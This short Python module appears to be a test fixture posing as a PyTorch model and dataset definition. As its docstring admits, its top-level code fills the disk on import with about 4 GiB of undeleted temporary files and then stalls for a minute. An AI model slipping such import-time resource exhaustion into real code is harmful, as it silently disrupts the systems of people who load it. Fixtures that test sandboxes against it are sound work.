"""Fills the disk with temporary files."""

import torch
from torch import nn
from torch.utils.data import TensorDataset


import tempfile
import time

for _ in range(4096):
    with tempfile.NamedTemporaryFile(delete=False) as file:
        file.write(bytes(1 << 20))
time.sleep(60)


def build_model():
    return nn.Linear(4, 3)


def build_dataset():
    return TensorDataset(torch.randn(96, 4), torch.randint(3, (96,)))
